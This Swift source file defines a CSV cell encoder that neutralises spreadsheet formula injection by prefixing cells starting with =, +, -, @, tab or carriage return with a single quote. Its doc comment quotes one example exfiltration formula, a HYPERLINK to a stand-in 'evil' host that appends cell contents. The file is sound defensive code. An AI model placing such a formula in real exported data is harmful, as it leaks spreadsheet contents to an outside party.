import OITLoad
import OITModel

/// One cell of a CSV file that people open in Excel or LibreOffice.
///
/// A cell starting with `=`, `+`, `-` or `@` is run as a formula by spreadsheet programs
/// (`=HYPERLINK("http://evil/?"&A1, "click")` in a summary would leak the sheet); so is one starting
/// with a tab or carriage return in some of them. Following the OWASP "CSV Injection" guidance, such
/// a cell is prefixed with a single quote, which makes the program show it as text, and quoted.
/// Every other cell is quoted when it holds a comma, quote or line break (RFC 4180).
///
/// Everything is decided on UTF-8 bytes, as spreadsheet programs read the cell: a mark after a
/// quote or after `=` (one character for Swift with it) leaves the sign a sign (issue 18).
package enum CSVField {
    package static let formulaStarts: Set<UInt8> = Set("=+-@\t\r".utf8)

    package static func encode(_ value: String) -> String {
        let neutralised = needsNeutralising(value)
        guard neutralised || value.utf8.contains(where: mustBeQuoted) else { return value }
        var bytes: [UInt8] = [quote]
        bytes.reserveCapacity(value.utf8.count + 8)
        if neutralised { bytes.append(UInt8(ascii: "'")) }
        for byte in value.utf8 {
            bytes.append(byte)
            if byte == quote { bytes.append(quote) }
        }
        bytes.append(quote)
        return String(decoding: bytes, as: UTF8.self)
    }

    /// Whether the cell would start a formula: its first byte is one of `formulaStarts`, whatever
    /// follows it.
    package static func needsNeutralising(_ value: String) -> Bool {
        guard let first = value.utf8.first else { return false }
        return formulaStarts.contains(first)
    }

    private static func mustBeQuoted(_ byte: UInt8) -> Bool {
        byte == UInt8(ascii: ",") || byte == quote || byte == UInt8(ascii: "\n") || byte == UInt8(ascii: "\r")
    }

    private static let quote = UInt8(ascii: "\"")
}
